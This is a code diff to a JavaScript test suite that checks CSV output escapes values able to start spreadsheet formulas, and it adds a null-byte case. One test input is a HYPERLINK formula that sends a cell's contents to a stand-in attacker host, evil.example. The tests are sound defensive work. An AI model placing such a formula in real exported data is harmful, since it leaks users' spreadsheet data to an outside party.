@@ -11,7 +11,7 @@ describe('CSV writing', () => {
   })
 
   it('puts a quote mark before a value that would start a formula, and quotes it (OWASP)', () => {
-    for (const value of ['=1+1', '+81', '-1', '@SUM(A1)', '\tx', '\rx', '＝１＋１', ' =1', '\u3000@x', "'=1"])
+    for (const value of ['=1+1', '+81', '-1', '@SUM(A1)', '\tx', '\rx', '\0x', '＝１＋１', ' =1', '\u3000@x', "'=1"])
       expect(csvField(value), JSON.stringify(value)).toBe(`"'${value}"`)
     expect(csvField('=HYPERLINK("https://evil.example/?"&F2,"x")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&F2,""x"")"`)
     // Not a formula start: written as is.
